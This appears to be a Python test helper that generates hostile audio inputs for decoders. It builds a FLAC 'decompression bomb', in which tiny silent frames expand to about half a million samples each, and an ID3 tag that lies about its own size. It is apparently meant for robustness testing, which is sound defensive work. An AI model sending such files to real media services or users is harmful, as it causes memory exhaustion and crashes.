"""Sound files made to hurt whoever decodes them."""

from __future__ import annotations

import struct

_BLOCK = 65_535


def flac_of_nothing(blocks: int, *, channels: int = 8, rate_code: int = 0b1010) -> bytes:
    """A FLAC file of so many whole blocks of silence: 44 bytes unfold to half a million samples.

    Rates by their code: 0b0100 is 8 kHz, 0b1010 is 48 kHz. Source: RFC 9639, sections 8.2 and 9.
    """
    rate = {0b0100: 8_000, 0b1010: 48_000}[rate_code]
    shape = rate << 44 | (channels - 1) << 41 | 15 << 36 | blocks * _BLOCK
    info = struct.pack(">HH", _BLOCK, _BLOCK) + bytes(6) + shape.to_bytes(8, "big") + bytes(16)
    frames = b"".join(_frame(number, channels, rate_code) for number in range(blocks))
    return b"fLaC" + b"\x80" + len(info).to_bytes(3, "big") + info + frames


def id3_tag(claimed: int, body: bytes = b"") -> bytes:
    """An ID3 tag that says it has so many bytes, before whatever follows."""
    size = bytes(claimed >> shift & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\x03\x00\x00" + size + body


def _frame(number: int, channels: int, rate_code: int) -> bytes:
    head = bytes([0xFF, 0xF8, 0b0111 << 4 | rate_code, (channels - 1) << 4 | 0b1000]) + chr(number).encode()
    head += struct.pack(">H", _BLOCK - 1)
    head += bytes([_check(head, 0x07, 8)])
    frame = head + b"\x00\x00\x00" * channels
    return frame + _check(frame, 0x8005, 16).to_bytes(2, "big")


def _check(body: bytes, polynomial: int, bits: int) -> int:
    value, top, mask = 0, 1 << (bits - 1), (1 << bits) - 1
    for byte in body:
        value ^= byte << (bits - 8)
        for _ in range(8):
            value = (value << 1 ^ polynomial if value & top else value << 1) & mask
    return value
